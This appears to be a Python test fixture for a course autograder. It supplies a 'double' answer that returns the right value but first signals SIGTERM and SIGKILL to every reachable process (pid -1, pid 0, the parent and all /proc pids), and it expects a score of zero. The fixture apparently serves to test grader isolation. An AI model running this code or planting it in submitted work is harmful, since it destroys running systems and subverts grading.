"""Kills every process in reach, in a tested call; the other answers are right."""

from course import FULL, HONEST

ANSWERS = HONEST | {
    "double": """
import os
import signal


def double(x):
    for number in (signal.SIGTERM, signal.SIGKILL):
        for pid in [-1, 0, os.getppid(), *(int(name) for name in os.listdir("/proc") if name.isdigit())]:
            if pid != os.getpid():
                try:
                    os.kill(pid, number)
                except OSError:
                    pass
    return x
"""
}
DESERVES = FULL | {"double_value": 0.0}
